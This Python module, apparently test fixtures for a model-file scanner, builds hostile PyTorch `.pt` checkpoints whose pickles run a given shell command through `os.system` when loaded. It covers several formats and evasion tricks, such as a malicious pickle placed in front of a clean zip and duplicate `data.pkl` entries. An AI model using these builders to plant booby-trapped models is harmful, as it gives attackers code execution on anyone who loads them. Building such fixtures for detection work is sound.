"""Hostile checkpoints of torch and ultralytics: files `.pt`."""

from __future__ import annotations

import io
import os
import pickle
import tarfile
import warnings
import zipfile
from pathlib import Path
from typing import Any

import torch


class _Call:
    """Pickled, it calls a function when it is read."""

    def __init__(self, function: Any, *arguments: Any) -> None:
        self.call = (function, arguments)

    def __reduce__(self) -> Any:
        return self.call


def _zip_of(content: object, **how: Any) -> bytes:
    file = io.BytesIO()
    torch.save(content, file, **how)
    return file.getvalue()


def _written(path: Path, content: bytes) -> Path:
    path.write_bytes(content)
    return path


def _harmless() -> dict[str, Any]:
    return {"model": torch.nn.ReLU()}


def call_of_a_shell(folder: Path, command: str) -> Path:
    """Write a torch zip whose pickle calls a shell."""
    return _written(folder / "model.pt", _zip_of({"model": _Call(os.system, command)}))


def legacy_pickle_in_front(folder: Path, command: str) -> Path:
    """Write a pickle that calls a shell in front of a harmless torch zip: from its end it looks clean."""
    return _written(folder / "model.pt", pickle.dumps(_Call(os.system, command), protocol=2) + _zip_of(_harmless()))


def legacy_file(folder: Path, command: str) -> Path:
    """Write the format before zips, whose pickle calls a shell."""
    content = _zip_of({"model": _Call(os.system, command)}, _use_new_zipfile_serialization=False)
    return _written(folder / "model.pt", content)


def legacy_tar(folder: Path, command: str) -> Path:
    """Write the oldest format, a tar of pickles, each of which calls a shell."""
    content = pickle.dumps(_Call(os.system, command), protocol=2)
    with tarfile.open(folder / "model.pt", "w") as archive:
        for name in ("storages", "tensors", "pickle"):
            entry = tarfile.TarInfo(name)
            entry.size = len(content)
            archive.addfile(entry, io.BytesIO(content))
    return folder / "model.pt"


def two_pickles_of_one_name(folder: Path, command: str) -> Path:
    """Write a zip with two entries of one name: a harmless one, and one that calls a shell."""
    path = folder / "model.pt"
    with zipfile.ZipFile(path, "w") as archive:
        archive.writestr("archive/data.pkl", pickle.dumps(_Call(os.system, command), protocol=2))
        with warnings.catch_warnings():
            warnings.simplefilter("ignore")  # zipfile says so too
            archive.writestr("archive/data.pkl", pickle.dumps({}, protocol=2))
        archive.writestr("archive/version", "3\n")
    return path
